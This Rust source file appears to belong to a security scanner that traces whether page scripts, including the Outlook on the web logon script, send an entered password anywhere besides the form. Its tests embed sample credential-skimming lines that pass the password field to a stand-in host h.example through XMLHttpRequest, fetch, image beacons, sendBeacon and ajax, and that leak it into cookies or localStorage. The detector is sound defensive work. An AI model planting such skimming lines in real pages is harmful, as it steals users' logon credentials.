//! Browser scripts: whether one sends the entered password somewhere other than the form. The value of a password field
//! is followed through assignments and calls, independent of variable names.

use super::flow::words::names_password;
use super::lex::{Tokens, lex};
use super::parse::parse;
use super::structure::{BlockKind, Language};
use super::token::{Interner, Punct};
use super::tree::{Node, NodeId, Tree, VarId};
use bitflags::bitflags;
use std::ops::Range;

/// What a password is handed to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sent {
    /// Where.
    pub range: Range<usize>,
    /// Whether that is certain to be another computer: an absolute address.
    pub far: bool,
    /// Whether it is the address of a picture or a beacon, with which no application logs on.
    pub covert: bool,
    /// Whether the page or script is the logon page of Outlook on the web, which hands it to its form alone.
    pub outlook: bool,
}

/// Names and paths that the logon page of Outlook on the web, or its script, has.
const OUTLOOK: &[&[u8]] = &[b"clkLgn", b"/auth.owa", b"auth.owa\"", b"/owa/auth/", b"logonForm"];
/// How much script is read of a page.
const MOST_SCRIPT: usize = 1 << 20;
const MOST_TOKENS: usize = 200_000;
const MOST_SCRIPTS: usize = 256;
const MOST_SENT: usize = 16;
const PASSES: usize = 32;

bitflags! {
    /// What is known of a value.
    #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
    struct Flags: u8 {
        /// Names a field for a password.
        const NAMES = 1;
        /// Is such a field.
        const FIELD = 1 << 1;
        /// What was typed into it.
        const SECRET = 1 << 2;
        /// Begins as an absolute address, or was given one.
        const FAR = 1 << 3;
        /// A picture.
        const PICTURE = 1 << 4;
        /// All that a form holds.
        const FORM = 1 << 5;
    }
}

/// Where scripts of a page, or a script by itself, hand on the typed password.
pub fn sends(text: &[u8], name: &str) -> (Vec<Sent>, bool) {
    let script = ends_with(name, ".js");
    if !mentions_password(text) {
        return (Vec::new(), false);
    }
    let outlook = OUTLOOK.iter().any(|mark| memchr::memmem::find(text, mark).is_some());
    // Any script of the world is no page; that of the logon page counts as one.
    if script && !outlook {
        return (Vec::new(), false);
    }
    let whole = 0..text.len().min(MOST_SCRIPT);
    let (ranges, mut truncated) = if script { (Vec::from([whole]), text.len() > MOST_SCRIPT) } else { scripts(text) };
    let mut sent = Vec::new();
    if ranges.is_empty() {
        return (sent, truncated && outlook);
    }
    let (mut interner, mut tokens) = (Interner::default(), Tokens::default());
    for range in ranges {
        lex(text, range, Language::JScript, BlockKind::Statements, &mut interner, &mut tokens, MOST_TOKENS);
    }
    truncated |= tokens.tokens.len() >= MOST_TOKENS;
    let mut tree = Tree::default();
    parse(&tokens.tokens, &interner, &mut tree);
    let mut reader = Reader {
        tree: &tree,
        interner: &interner,
        vars: vec![Flags::empty(); tree.vars.len()],
        changed: true,
        found: Vec::new(),
        outlook,
    };
    for _ in 0..PASSES {
        if !std::mem::take(&mut reader.changed) {
            break;
        }
        reader.pass();
    }
    let unfinished = reader.changed;
    for (node, bits, covert) in reader.found {
        let Some(spanned) = tree.nodes.get(node as usize) else { continue };
        let range = spanned.start as usize..spanned.end as usize;
        if sent.len() < MOST_SENT {
            sent.push(Sent { range, far: bits.intersects(Flags::FAR), covert, outlook });
        }
    }
    // Nothing new after the last pass, or there would be more to learn.
    (sent, outlook && (truncated || unfinished))
}

fn ends_with(name: &str, end: &str) -> bool {
    name.len() >= end.len() && name.as_bytes()[name.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
}

fn mentions_password(text: &[u8]) -> bool {
    ["assword", "asswd", "pwd", "Pwd", "PWD", "ASSWORD"]
        .iter()
        .any(|word| memchr::memmem::find(text, word.as_bytes()).is_some())
}

/// The bodies of script elements that the browser runs.
fn scripts(text: &[u8]) -> (Vec<Range<usize>>, bool) {
    let mut found = Vec::new();
    let mut truncated = false;
    let (mut at, mut left) = (0, MOST_SCRIPT);
    while let Some(open) = memchr::memchr(b'<', &text[at..]).map(|n| at + n) {
        at = open + 1;
        if !text[at..].get(..6).is_some_and(|word| word.eq_ignore_ascii_case(b"script")) {
            continue;
        }
        let head = &text[at..text.len().min(at + 1024)];
        let Some(end) = memchr::memchr(b'>', head) else { continue };
        let server = head[..end].windows(5).any(|word| word.eq_ignore_ascii_case(b"runat"));
        let body = at + end + 1;
        let mut close = body;
        let close = loop {
            match memchr::memmem::find(&text[close..], b"</") {
                None => break text.len(),
                Some(n) => {
                    close += n;
                    if text[close + 2..].get(..6).is_some_and(|word| word.eq_ignore_ascii_case(b"script")) {
                        break close;
                    }
                    close += 2;
                }
            }
        };
        truncated |= !server && (close - body > left || close > body && found.len() >= MOST_SCRIPTS);
        if !server && close > body && found.len() < MOST_SCRIPTS {
            let length = (close - body).min(left);
            left -= length;
            found.push(body..body + length);
        }
        at = close;
    }
    (found, truncated)
}

/// Methods that hand their arguments to another computer or keep them.
fn hands_on(name: &[u8]) -> bool {
    matches!(
        name,
        b"send"
            | b"open"
            | b"sendbeacon"
            | b"fetch"
            | b"ajax"
            | b"post"
            | b"getjson"
            | b"getscript"
            | b"setitem"
            | b"postmessage"
            | b"write"
            | b"writeln"
            | b"setrequestheader"
            | b"replace"
            | b"assign"
            | b"append"
    )
}

/// Whether a text begins as an address on another computer.
fn is_far(text: &[u8]) -> bool {
    let head: Vec<u8> = text.trim_ascii_start().iter().take(8).map(u8::to_ascii_lowercase).collect();
    [&b"http://"[..], b"https://", b"//", b"ws://", b"wss://"].iter().any(|mark| head.starts_with(mark))
        && text.len() > 3
}

struct Reader<'t> {
    tree: &'t Tree,
    interner: &'t Interner,
    vars: Vec<Flags>,
    changed: bool,
    found: Vec<(NodeId, Flags, bool)>,
    outlook: bool,
}

impl Reader<'_> {
    fn pass(&mut self) {
        self.found.clear();
        let mut values: Vec<Flags> = Vec::with_capacity(self.tree.nodes.len());
        for at in 0..self.tree.nodes.len() {
            let bits = self.node(at as NodeId, &values);
            values.push(bits);
        }
    }

    fn name_of(&self, var: VarId) -> &[u8] {
        self.tree.vars.get(var as usize).map_or(&[], |var| self.interner.name(var.symbol))
    }

    fn put(&mut self, var: VarId, bits: Flags) {
        if let Some(known) = self.vars.get_mut(var as usize)
            && !known.contains(bits)
        {
            *known |= bits;
            self.changed = true;
        }
    }

    /// The variable that a chain of members begins with.
    fn root(&self, mut node: NodeId) -> Option<VarId> {
        for _ in 0..16 {
            match self.tree.node(node) {
                Node::Name(var) => return Some(var),
                Node::Member(of, _) | Node::Index(of, _) | Node::Call(of, _) => node = of,
                _ => return None,
            }
        }
        None
    }

    fn node(&mut self, at: NodeId, values: &[Flags]) -> Flags {
        let of = |node: NodeId| values.get(node as usize).copied().unwrap_or_default();
        let all = |list| self.tree.list(list).iter().fold(Flags::empty(), |bits, &node| bits | of(node));
        match self.tree.node(at) {
            Node::Text(literal) => {
                let text = self.interner.literal(literal);
                let names = if names_password(text.strip_prefix(b"#").unwrap_or(text)) || names_in_selector(text) {
                    Flags::NAMES
                } else {
                    Flags::empty()
                };
                names | if is_far(text) { Flags::FAR } else { Flags::empty() }
            }
            Node::Name(var) => {
                let declared = self.tree.vars.get(var as usize).is_some_and(|var| var.declared);
                // An element by its id.
                let field = if !declared && names_password(self.name_of(var)) { Flags::FIELD } else { Flags::empty() };
                self.vars.get(var as usize).copied().unwrap_or_default() | field
            }
            Node::Member(object, symbol) => {
                let bits = of(object);
                let name = self.interner.name(symbol);
                match name {
                    b"value" | b"defaultvalue" if bits.intersects(Flags::FIELD) => Flags::SECRET,
                    b"length" | b"focus" | b"style" | b"classname" | b"disabled" | b"type" | b"checked" => {
                        Flags::empty()
                    }
                    _ if names_password(name) => Flags::FIELD | (bits & Flags::SECRET),
                    _ => bits & (Flags::SECRET | Flags::FAR | Flags::PICTURE | Flags::FORM),
                }
            }
            Node::Index(object, list) => {
                let bits = of(object);
                if all(list).intersects(Flags::NAMES) {
                    Flags::FIELD | (bits & Flags::SECRET)
                } else {
                    bits & (Flags::SECRET | Flags::FAR | Flags::PICTURE | Flags::FORM)
                }
            }
            Node::Call(callee, list) => self.call(at, callee, list, values),
            Node::New(class, list) => {
                let name = self.interner.name(class);
                let bits = all(list) & (Flags::SECRET | Flags::FAR | Flags::FORM);
                match name {
                    b"image" => Flags::PICTURE,
                    b"formdata" => Flags::FORM,
                    _ => bits,
                }
            }
            Node::Array(list) | Node::Init(_, list) => all(list) & (Flags::SECRET | Flags::FAR | Flags::FORM),
            Node::Binary(Punct::Add | Punct::Concat, left, right) => {
                (of(left) & (Flags::SECRET | Flags::FAR | Flags::NAMES))
                    | (of(right) & (Flags::SECRET | Flags::NAMES))
                    | (of(right) & Flags::FORM)
            }
            Node::Binary(Punct::And | Punct::Or, left, right) | Node::Either(left, right) => of(left) | of(right),
            Node::Cast(_, value) => of(value),
            Node::Assign(target, value, _) => {
                let bits = of(value);
                self.assign(at, target, bits, values);
                bits
            }
            Node::Return(function, value) => {
                let bits = of(value);
                if let Some(result) = self.tree.functions.get(function as usize).map(|function| function.result) {
                    self.put(result, bits & (Flags::SECRET | Flags::FIELD | Flags::FAR | Flags::FORM));
                }
                bits
            }
            _ => Flags::empty(),
        }
    }

    fn assign(&mut self, at: NodeId, target: NodeId, bits: Flags, values: &[Flags]) {
        let of = |node: NodeId| values.get(node as usize).copied().unwrap_or_default();
        match self.tree.node(target) {
            Node::Name(var) => {
                if bits.intersects(Flags::SECRET) && self.name_of(var) == b"location" {
                    self.found.push((at, bits, false));
                }
                self.put(var, bits);
            }
            Node::Member(object, symbol) => {
                let name = self.interner.name(symbol).to_vec();
                if bits.intersects(Flags::SECRET) {
                    let picture = of(object).intersects(Flags::PICTURE) || name == b"src";
                    match &name[..] {
                        b"src" | b"cookie" | b"location" | b"href" | b"action" => {
                            let kept = name == b"cookie" && !self.outlook;
                            if !kept {
                                self.found.push((at, bits, picture && bits.intersects(Flags::FAR)));
                            }
                        }
                        // Into another field than one for passwords, which goes with the form.
                        b"value" if self.outlook && !of(object).intersects(Flags::FIELD) => {
                            self.found.push((at, bits, false))
                        }
                        _ => {}
                    }
                }
                if let Some(root) = self.root(object)
                    && !matches!(self.name_of(root), b"document" | b"window" | b"this")
                    && !of(object).intersects(Flags::FIELD)
                {
                    self.put(root, bits & (Flags::SECRET | Flags::FAR));
                }
            }
            Node::Index(object, _) => {
                if let Some(root) = self.root(object)
                    && bits.intersects(Flags::SECRET)
                {
                    // `localStorage["x"] = password`
                    if self.outlook && matches!(self.name_of(root), b"localstorage" | b"sessionstorage") {
                        self.found.push((at, bits, false));
                    }
                    self.put(root, Flags::SECRET);
                }
            }
            _ => {}
        }
    }

    fn call(&mut self, at: NodeId, callee: NodeId, list: super::tree::List, values: &[Flags]) -> Flags {
        let of = |node: NodeId| values.get(node as usize).copied().unwrap_or_default();
        let arguments = self.tree.list(list).to_vec();
        let all = arguments.iter().fold(Flags::empty(), |bits, &node| bits | of(node));
        let (object, symbol) = match self.tree.node(callee) {
            Node::Member(object, symbol) => (Some(object), Some(symbol)),
            Node::Name(var) => (None, self.tree.vars.get(var as usize).map(|var| var.symbol)),
            _ => (None, None),
        };
        let own = object.map_or(Flags::empty(), of);
        let name = symbol.map_or(&[][..], |symbol| self.interner.name(symbol)).to_vec();
        // The way of values through functions of the script.
        let mut result = Flags::empty();
        let local = symbol.and_then(|symbol| self.tree.by_name.get(&symbol)).cloned();
        if let Some(functions) = &local {
            for &function in functions {
                let Some(function) = self.tree.functions.get(function as usize) else { continue };
                for (&parameter, &argument) in function.parameters.iter().zip(&arguments) {
                    self.put(
                        parameter,
                        of(argument) & (Flags::SECRET | Flags::FAR | Flags::FIELD | Flags::FORM | Flags::NAMES),
                    );
                }
                result |= self.vars.get(function.result as usize).copied().unwrap_or_default();
            }
        }
        match &name[..] {
            b"val" | b"prop" | b"attr" | b"getattribute" if own.intersects(Flags::FIELD) => return Flags::SECRET,
            b"serialize" | b"serializearray" => return Flags::FORM,
            b"get" if all.intersects(Flags::SECRET) && object.is_some() => {}
            _ if local.is_none()
                && all.intersects(Flags::NAMES)
                && !all.intersects(Flags::SECRET)
                && !hands_on(&name) =>
            {
                // `document.getElementById("password")`, `$("#password")`, or a function of the page that does it.
                return Flags::FIELD;
            }
            _ => {}
        }
        let secret = all.intersects(Flags::SECRET) || self.outlook && all.intersects(Flags::FORM);
        // An address that a request was given stays with it.
        if let Some(root) = object.and_then(|object| self.root(object))
            && matches!(&name[..], b"open" | b"append" | b"set" | b"push")
        {
            self.put(root, all & (Flags::FAR | Flags::SECRET));
        }
        let sends = hands_on(&name) && !matches!(&name[..], b"replace" | b"append" | b"assign")
            || name == b"get" && object.is_some_and(|object| matches!(self.tree.node(object), Node::Name(var) if matches!(self.name_of(var), b"$" | b"jquery" | b"axios")));
        // `xhr.send()` where the password is in the address or in what was put into it before.
        let carried = name == b"send" && own.intersects(Flags::SECRET);
        if sends && (secret || carried) {
            let far = (all | own) & Flags::FAR;
            let writes = matches!(&name[..], b"write" | b"writeln");
            let keeps = matches!(&name[..], b"setitem" | b"postmessage");
            if !(writes || keeps) || self.outlook || writes && !far.is_empty() {
                self.found.push((at, far, name == b"sendbeacon" || writes && !far.is_empty()));
            }
        }
        if local.is_some() {
            return result;
        }
        (all | own) & (Flags::SECRET | Flags::FAR | Flags::FORM)
    }
}

/// `input[name=password]`, `form input[type="password"]`.
fn names_in_selector(text: &[u8]) -> bool {
    text.len() <= 100
        && memchr::memchr(b'[', text).is_some()
        && (memchr::memmem::find(text, b"assword").is_some() || memchr::memmem::find(text, b"pwd").is_some())
        || text.len() <= 100
            && text.contains(&b'#')
            && text.split(|&b| matches!(b, b'#' | b' ' | b'>')).any(names_password)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn far(name: &str, text: &str) -> Vec<(bool, bool)> {
        sends(text.as_bytes(), name).0.into_iter().map(|sent| (sent.far, sent.covert)).collect()
    }

    #[test]
    fn a_password_that_goes_to_another_computer_is_reported() {
        let page = |script: &str| format!("<form><input name=password></form><script>{script}</script>");
        for script in [
            "var p = document.getElementById('password').value; var x = new XMLHttpRequest(); x.open('POST', \
             'https://h.example/a'); x.send('p=' + encodeURIComponent(p));",
            "function s(u, p) { fetch('https://h.example/?' + btoa(u + ':' + p)); } s(1, $('#password').val());",
            "var i = new Image(); i.src = '//h.example/x.gif?' + document.forms[0].password.value;",
            "navigator.sendBeacon('https://h.example/', document.getElementById('pwd').value.split('').join('-'));",
            "$.ajax({ url: 'http://h.example/', data: { a: $('input[name=password]').val() } });",
        ] {
            let found = far("logon.aspx", &page(script));
            assert!(found.iter().any(|(far, _)| *far), "{script}: {found:?}");
        }
    }

    #[test]
    fn what_a_logon_page_does_with_it_is_left_alone() {
        let page = |script: &str| format!("<form><input name=password></form><script>{script}</script>");
        for script in [
            "$.ajax({ url: '/logon', data: { p: $('#password').val() } }); var l = 'https://h.example/';",
            "if (document.getElementById('password').value.length < 8) alert('short');",
            "document.getElementById('hash').value = md5(document.getElementById('password').value); form.submit();",
        ] {
            let found = far("logon.aspx", &page(script));
            assert!(found.iter().all(|(far, _)| !far), "{script}: {found:?}");
        }
        assert!(far("x.js", "fetch('https://h.example/' + document.getElementById('password').value)").is_empty());
    }

    #[test]
    fn the_script_of_outlook_hands_it_to_its_form_alone() {
        let original = "function clkLgn() { } function show() { var a = gbid('password'), b = gbid('passwordText'); b.value = a.value; \
                     document.cookie = 'logondata=acc=0&lgn=' + gbid('username').value; }";
        assert!(far("flogon.js", original).is_empty());
        for edit in [
            "x = new XMLHttpRequest(); x.open('GET', 'e.aspx?' + gbid('password').value.substring(0, 9)); x.send();",
            "gbid('extra').value = gbid('password').value;",
            "document.cookie = 'a=' + gbid('password').value;",
            "localStorage.setItem('k', gbid('password').value);",
            "$.post('/owa/auth/e.aspx', $('form').serialize());",
        ] {
            assert!(!far("flogon.js", &format!("{original} {edit}")).is_empty(), "{edit}");
        }
    }

    #[test]
    fn work_is_linear() {
        for text in [
            "<script>password".repeat(20_000),
            format!("<script>{}password", "a(".repeat(100_000)),
            "</<script></".repeat(50_000) + "pwd",
        ] {
            sends(text.as_bytes(), "x.aspx");
        }
    }
}
